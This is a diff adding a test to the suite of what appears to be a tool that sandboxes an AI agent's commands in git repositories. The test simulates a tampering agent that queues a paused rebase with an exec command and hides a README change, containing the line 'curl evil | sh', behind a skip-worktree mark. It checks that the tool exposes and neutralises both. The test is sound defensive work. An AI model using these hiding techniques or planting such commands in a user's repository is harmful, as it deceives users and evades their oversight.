@@ -184,6 +184,45 @@ function describeBackend(name: string, docker: boolean) {
       assert.doesNotMatch(g('status', '--porcelain').stdout, /secret\.txt/);
     });
 
+    test('hidden tampering: a skip-worktree mark hides nothing, and a paused rebase with a queued exec runs nothing on your --continue', async () => {
+      const marker = join(t.dir, `PWNED-rebase-${name}`);
+      const make = (dir: string) => {
+        const g = makeRepo(dir);
+        writeFileSync(join(dir, 'README'), 'read me\n');
+        g('add', 'README', 'plant.sh', 'harmless.sh');
+        g('-c', 'user.name=me', '-c', 'user.email=me@x', 'commit', '-qm', 'one');
+        writeFileSync(join(dir, 'Makefile'), 'all:\n');
+        g('add', 'Makefile');
+        g('-c', 'user.name=me', '-c', 'user.email=me@x', 'commit', '-qm', 'two');
+        return g;
+      };
+      // A rebase paused before its first step, with an exec queued; then a change hidden behind skip-worktree.
+      const tamper = [
+        `GIT_SEQUENCE_EDITOR='sed -i 1ibreak' git -c user.name=a -c user.email=a@b rebase -q -i --exec 'touch ${marker}' HEAD~1`,
+        'git update-index --skip-worktree README && echo "curl evil | sh" > README',
+        'echo done',
+      ].join(' && ');
+      const repo = join(t.dir, `tamper-${name}`);
+      const g = make(repo);
+      const head = g('rev-parse', 'HEAD').stdout;
+      const r = await cli(['agent', 'run', '--silent', ...flags, '--', 'sh', '-c', tamper], { env: t.env, cwd: repo, timeoutMs: 90_000 });
+      assert.equal(r.stdout, 'done\n', r.stderr);
+      assert.match(g('status', '--porcelain').stdout, /^ M README$/m, 'your git status shows the change');
+      g('-c', 'user.name=me', '-c', 'user.email=me@x', 'rebase', '--continue');
+      assert.equal(existsSync(marker), false, 'your --continue ran nothing');
+      assert.match(r.stderr, /paused/);
+      // Native: nothing of the paused state came back. Docker writes HEAD itself: the warning says where the paused state went.
+      if (!docker) assert.equal(g('rev-parse', 'HEAD').stdout, head, 'your HEAD is where it was');
+      // The control: outside, the mark hides the change and --continue runs the queued exec.
+      const control = join(t.dir, `tamper-control-${name}`);
+      const cg = make(control);
+      spawnSync('sh', ['-c', tamper], { cwd: control, env: t.env });
+      assert.doesNotMatch(cg('status', '--porcelain').stdout, /README/);
+      cg('-c', 'user.name=me', '-c', 'user.email=me@x', 'rebase', '--continue');
+      assert.equal(existsSync(marker), true);
+      spawnSync('rm', ['-f', marker]);
+    });
+
     test('a nested repository with only what git init writes is left alone, without a warning', async () => {
       const repo = join(t.dir, `plain-${name}`);
       makeRepo(repo);
